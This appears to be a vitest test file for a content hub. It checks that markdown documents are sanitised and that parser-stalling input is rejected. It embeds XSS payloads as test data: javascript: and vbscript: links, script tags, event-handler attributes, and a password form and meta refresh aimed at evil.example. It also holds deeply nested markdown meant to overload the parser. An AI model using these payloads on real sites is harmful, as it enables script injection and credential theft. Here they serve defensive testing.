/** Documents that were written to attack, as players and holders of a link to a draft get them. */
import { hubFiles } from '@playhub/contract/operator'
import { expect, onTestFinished } from 'vitest'
import { copyContent } from '../../../test/support/content-copy.ts'
import { test as base } from '../../../test/support/hub-test.ts'
import { addTestOperator, type OperatorClient } from '../../../test/support/operators/operator-client.ts'
import { runOnHub } from '../../../test/support/run-on-hub.ts'
import { buildApp } from '../../app.ts'
import type { PageRenderer } from '../index.ts'

const path = 'docs/terms.en.md'
const params = { project: hubFiles, path }

const renderer: PageRenderer = async ({ api }) => {
  const document = await api.getDocument?.('terms')
  return { status: 200, html: `<!doctype html><html><body>${document?.html}</body></html>` }
}

const test = base.extend('staff', async ({ hub }) => {
  const owner = await addTestOperator(hub, { role: 'owner', project: '*' })
  await runOnHub(hub, ['content', 'import', copyContent({})])
  await hub.context.catalogue.refresh()
  const app = await buildApp(hub.context, renderer)
  onTestFinished(() => app.close())
  return { hub, owner, origin: await app.listen({ port: 0 }) }
})

const attack = `# Terms

[script](javascript:alert(1)) [entity](javascript&colon;alert(1)) [case](JaVaScRiPt:alert(1))
[data](data:text/html,hi) [file](<java script:x>) <javascript:alert(2)> [ref][r] [vb](vbscript:x)

[r]: javascript:alert(3)

<script>alert(4)</script> <img src=x onerror=alert(5)> text <b onclick="alert(6)">bold</b>

seen <!-- hidden --><b>

<!-- hidden --><script>alert(10)</script>

<form action="https://evil.example"><input name="password"></form>

<meta http-equiv="refresh" content="0;url=https://evil.example">

![pixel](https://evil.example/1.png) ![pixel](//evil.example/2.png) ![pixel](/\\evil.example/3.png) ![own](/main_images/a.svg)

[quote](https://example.org/"onclick="alert(7)) [title](/x "a\\" onclick=\\"alert(8)")

## Heading <script>alert(9)</script>

[safe](https://example.org/) [mail](mailto:a@example.org) [page](/docs/offer.html) [near](offer.html#top) [here](#section-1)
`

function expectHarmless(html: string): void {
  const tags = html.match(/<[a-z][^>]*>/gi) ?? []
  expect(tags.filter((tag) => !/^<(html|body|p|a|h2|img|em|strong)\b/.test(tag))).toEqual([])
  for (const tag of tags)
    expect(tag.replace(/="[^"]*"/g, '')).toMatch(/^<\w+( (href|src|alt|title|id|role|style))*>$/)
  expect(html.match(/(href|src)="[^"]*(script|evil|data)[^"]*"/gi)).toBe(null)
  const links = [...html.matchAll(/<a [^>]*href="([^"]*)"/g)].map(([, href = '']) => href.split('?')[0])
  expect(links.filter((href) => !href?.startsWith('https://example.org/%22'))).toEqual([
    '/x',
    'https://example.org/',
    'mailto:a@example.org',
    '/docs/offer.html',
    'offer.html#top',
    '#section-1',
  ])
  expect(html).toContain('<img src="/main_images/a.svg"')
  expect(html).toContain('&#60;script&#62;alert(4)')
  expect(html).not.toContain('hidden')
}

async function save({ call, callOk }: OperatorClient, text: string) {
  const { data } = await callOk('GET /content/drafts/{project}/files/{path}', { params })
  const { baseSha256 } = data.result
  return call('PUT /content/drafts/{project}/files/{path}', { params, body: { text, baseSha256 } })
}

test('a document runs no script and loads nothing from other hosts, in a draft and when it is published', async ({
  staff: { owner, origin },
}) => {
  expect((await save(owner, attack)).body).toMatchObject({ data: { result: { problems: [] } } })
  const { data } = await owner.callOk('POST /content/drafts/{project}/preview', {
    params: { project: hubFiles },
    body: { language: 'en', path: '/docs/terms.html' },
  })
  const { pathname, search } = new URL(data.result.url)
  expectHarmless(await (await fetch(origin + pathname + search)).text())

  await owner.callOk('POST /content/drafts/{project}/publish', {
    params: { project: hubFiles },
    body: { reason: 'A test' },
  })
  const page = await fetch(`${origin}/docs/terms.html`, { headers: { 'accept-language': 'en' } })
  expectHarmless(await page.text())
})

const heavy: Record<string, string> = {
  'quotes in each other': '> '.repeat(3000),
  'lists in each other': '- '.repeat(3000),
  'lists of growing depth': Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join(
    '\n',
  ),
  'emphasis in each other': `${'*a _b '.repeat(2000)}c${'_ *'.repeat(2000)}`,
  'many asterisks': '*'.repeat(5000),
  'a wide and long table': `${'|a'.repeat(2000)}|\n${'|-'.repeat(2000)}|\n${'|b\n'.repeat(2000)}`,
}

test('a document that would hold the hub up is not saved', async ({ staff: { owner } }) => {
  for (const [name, text] of Object.entries(heavy))
    expect([name, await save(owner, `# Terms\n\n${text}\n`)]).toMatchObject([
      name,
      { status: 409, body: { code: 'DRAFT_TOO_LARGE' } },
    ])
  const table = `| item | price |\n| --- | --- |\n${'| *gems* | [1](https://example.org) |\n'.repeat(300)}`
  expect(await save(owner, `# Terms\n\n${table}\n\n> - a\n>   - b\n\n---\n`)).toMatchObject({ status: 200 })
})
